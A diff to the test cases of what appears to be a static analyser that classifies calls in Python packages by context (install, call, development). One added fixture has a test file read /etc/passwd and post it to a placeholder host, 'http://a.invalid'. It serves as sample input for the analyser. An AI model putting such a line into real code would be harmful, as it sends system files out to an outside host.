@@ -100,10 +100,25 @@ os.system('print(4)')`,
     },
     [
       `setup.py:2 install call setuptools.setup(name='own', packages=['own'])`,
-      `own/tests/test_y.py:2 call call os.system('print(4)')`,
-      `tests/test_x.py:2 call call os.system('print(1)')`,
-      `docs/conf.py:2 call call os.system('print(2)')`,
-      `examples/x.py:2 call call os.system('print(3)')`,
+      `own/tests/test_y.py:2 development call os.system('print(4)')`,
+      `tests/test_x.py:2 development call os.system('print(1)')`,
+      `docs/conf.py:2 development call os.system('print(2)')`,
+      `examples/x.py:2 development call os.system('print(3)')`,
+    ],
+  ],
+  [
+    'what a test makes the distribution do happens in the test',
+    {
+      'own/__init__.py': `import requests
+def tell(host, what):
+    requests.post(host, data=what)`,
+      'tests/test_x.py': `import os
+from own import tell
+tell('http://a.invalid', open('/etc/passwd').read())`,
+    },
+    [
+      `own/__init__.py:3 call call requests.post(…, data=…)`,
+      `tests/test_x.py:3 development call builtins.open('/etc/passwd')`,
     ],
   ],
   [
